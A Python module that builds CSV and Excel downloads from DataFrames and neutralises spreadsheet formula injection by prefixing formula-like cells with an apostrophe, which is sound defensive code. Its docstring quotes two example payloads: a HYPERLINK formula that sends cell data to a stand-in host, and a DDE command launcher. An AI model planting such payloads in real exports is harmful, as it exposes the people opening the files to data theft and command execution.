"""CSV and Excel downloads that are safe to open in a spreadsheet.

Text in the warehouse comes from files written by many hands. A cell such as
``=HYPERLINK("http://evil.example/?"&A1, "details")`` or ``+cmd|' /C calc'!A0`` is inert in the
database and in the browser, but a spreadsheet that opens an export runs it as a formula
(CSV/formula injection, OWASP). Every text cell that a spreadsheet would read as a formula is
therefore prefixed with an apostrophe; numbers, dates and booleans keep their types.

Pure functions: a DataFrame in, bytes out; no streamlit, no files, no clock.
"""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
import math
import numbers
import re
from collections.abc import Sequence

import numpy as np
import pandas as pd

from i18n import _, fmt_number

# The characters OWASP lists (= + - @ tab CR), plus a line feed and the full-width forms that
# some spreadsheet locales also accept as the start of a formula.
FORMULA_START: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
EXCEL_MAX_ROWS = 1_048_576
EXCEL_MAX_CHARS = 32_767
_MAX_EXACT_INT = 2**53  # larger integers (H3 cell ids) lose digits as Excel doubles
_SHEET_BAD = re.compile(r"[\[\]:*?/\\]")


def neutralise_text(value: str) -> str:
    """``value`` with an apostrophe in front when a spreadsheet would run it as a formula."""
    return "'" + value if value.startswith(FORMULA_START) else value


def _is_missing(v: object) -> bool:
    if v is None or v is pd.NA or v is pd.NaT:
        return True
    if isinstance(v, float | np.floating):
        return bool(np.isnan(v))
    return False


def _as_text(v: object) -> str:
    """A non-scalar or non-numeric cell as text (lists from DuckDB are joined with "; ")."""
    if isinstance(v, bytes | bytearray):
        return v.hex()
    if isinstance(v, list | tuple | np.ndarray | pd.Series):
        return "; ".join("" if _is_missing(x) else str(x) for x in list(v))
    return str(v)


def _cell(v: object) -> object:
    """One cell as a safe Python value: a number, bool, date, None or neutralised text."""
    if isinstance(v, list | tuple | np.ndarray | pd.Series):
        return neutralise_text(_as_text(v))
    if _is_missing(v):
        return None
    if isinstance(v, bool | np.bool_):
        return bool(v)
    if isinstance(v, numbers.Integral):
        return int(v)
    if isinstance(v, numbers.Real | decimal.Decimal):  # DuckDB DECIMAL arrives as Decimal
        f = float(v)
        return f if math.isfinite(f) else neutralise_text(str(f))
    if isinstance(v, pd.Timestamp):
        return v.to_pydatetime()
    if isinstance(v, dt.date | dt.time):
        return v
    return neutralise_text(_as_text(v))


def _safe_rows(df: pd.DataFrame) -> tuple[list[str], list[list[object]]]:
    header = [neutralise_text(str(c)) for c in df.columns]
    rows = [[_cell(v) for v in row] for row in df.itertuples(index=False, name=None)]
    return header, rows


def to_safe_csv(df: pd.DataFrame) -> bytes:
    """CSV bytes of ``df`` with formula-like text cells neutralised.

    UTF-8 with a byte-order mark (so Excel reads accents and non-Latin scripts correctly),
    RFC 4180 quoting and ``\\r\\n`` line ends; no index column. Numbers are written as numbers
    (``-3`` stays ``-3``), missing values as empty cells, dates in ISO 8601, list cells joined
    with ``"; "``.

    Returns
    -------
    bytes
        The file content, ready for a download button.
    """
    header, rows = _safe_rows(df)
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    w.writerow(header)
    for row in rows:
        w.writerow(["" if v is None else _csv_value(v) for v in row])
    return buf.getvalue().encode("utf-8-sig")


def _csv_value(v: object) -> object:
    if isinstance(v, dt.datetime):
        return v.isoformat(sep=" ") if (v.hour or v.minute or v.second) else v.date().isoformat()
    if isinstance(v, dt.date | dt.time):
        return v.isoformat()
    return v


def _sheet_title(name: str, taken: Sequence[str] = ()) -> str:
    """A valid, unique Excel sheet name (31 chars, none of ``[]:*?/\\``, no edge apostrophes)."""
    title = _SHEET_BAD.sub("_", "".join(ch for ch in str(name) if ch.isprintable()))
    title = title.strip("' ")[:31].strip("' ") or "Data"
    if title.lower() == "history":  # reserved by Excel
        title = "History data"
    base, i = title, 2
    while title.lower() in (t.lower() for t in taken):
        suffix = f" ({i})"
        title = base[: 31 - len(suffix)] + suffix
        i += 1
    return title


def to_safe_xlsx(
    df: pd.DataFrame, sheet_name: str = "Data", notes: list[str] | None = None
) -> bytes:
    """An XLSX workbook of ``df`` that no spreadsheet will evaluate.

    Written with xlsxwriter with ``strings_to_formulas``, ``strings_to_urls`` and
    ``strings_to_numbers`` off, so every text cell is stored as a plain string, and
    formula-like text is also prefixed with an apostrophe (it stays inert if the sheet is
    later copied or saved as CSV). Numbers, booleans and dates keep their cell types;
    integers beyond 2**53 (such as H3 cell ids) are written as text so no digit is lost.

    Parameters
    ----------
    df : pandas.DataFrame
        The table to export (at most 1,048,575 rows: Excel's limit).
    sheet_name : str
        Name of the data sheet (made valid for Excel).
    notes : list of str, optional
        Provenance lines (source, vintage, filters, caveats). When given, the workbook opens
        on a first sheet "About" listing them, one per row.

    Returns
    -------
    bytes
        The .xlsx file content.

    Raises
    ------
    ValueError
        If ``df`` has more rows than an Excel sheet holds.
    """
    import xlsxwriter

    if len(df) + 1 > EXCEL_MAX_ROWS:
        raise ValueError(
            _(
                "{n} rows do not fit in an Excel sheet (at most {most}): narrow the filters or "
                "download CSV."
            ).format(n=fmt_number(len(df)), most=fmt_number(EXCEL_MAX_ROWS - 1))
        )
    header, rows = _safe_rows(df)
    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(
        buf,
        {
            "in_memory": True,
            "strings_to_formulas": False,
            "strings_to_urls": False,
            "strings_to_numbers": False,
            "remove_timezone": True,
        },
    )
    try:
        bold = wb.add_format({"bold": True})
        date_fmt = wb.add_format({"num_format": "yyyy-mm-dd"})
        datetime_fmt = wb.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"})
        taken: list[str] = []
        if notes:
            about_name = _sheet_title(_("About"))
            about = wb.add_worksheet(about_name)
            taken.append(about_name)
            about.write_string(0, 0, _("About this export"), bold)
            for i, line in enumerate(notes, start=1):
                about.write_string(i, 0, neutralise_text(str(line))[:EXCEL_MAX_CHARS])
            about.set_column(0, 0, 100)
        ws = wb.add_worksheet(_sheet_title(sheet_name, taken))
        for j, name in enumerate(header):
            ws.write_string(0, j, name[:EXCEL_MAX_CHARS], bold)
        for i, row in enumerate(rows, start=1):
            for j, v in enumerate(row):
                if v is None:
                    continue
                if isinstance(v, bool):
                    ws.write_boolean(i, j, v)
                elif isinstance(v, int) and abs(v) > _MAX_EXACT_INT:
                    ws.write_string(i, j, str(v))
                elif isinstance(v, int | float):
                    ws.write_number(i, j, v)
                elif isinstance(v, dt.datetime):
                    ws.write_datetime(i, j, v, datetime_fmt)
                elif isinstance(v, dt.date):
                    ws.write_datetime(i, j, dt.datetime(v.year, v.month, v.day), date_fmt)
                elif isinstance(v, dt.time):
                    ws.write_string(i, j, v.isoformat())
                else:
                    ws.write_string(i, j, str(v)[:EXCEL_MAX_CHARS])
        if len(header):
            ws.freeze_panes(1, 0)
    finally:
        wb.close()
    return buf.getvalue()


# ---------------------------------------------------------------- incident tables


def _safe_url(u: object) -> str | None:
    if isinstance(u, str) and u.strip().lower().startswith(("http://", "https://")):
        return u.strip()
    return None


def _join(v: object) -> str:
    if isinstance(v, (list, tuple)):
        return ", ".join(str(x) for x in v)
    if isinstance(v, np.ndarray):
        return ", ".join(str(x) for x in v.tolist())
    return "" if v is None else str(v)


def prepare_incident_table(df: pd.DataFrame) -> pd.DataFrame:
    """Incident rows ready to show and export: lists joined, only http(s) links kept."""
    out = df.copy()
    for col in ("causes", "flags"):
        if col in out.columns:
            out[col] = out[col].map(_join)
    if "url" in out.columns:
        out["url"] = out["url"].map(_safe_url).astype(object)
        out["url"] = out["url"].where(out["url"].notna(), None)
    if "incident_date" in out.columns:
        out["incident_date"] = pd.to_datetime(out["incident_date"]).dt.date
    return out
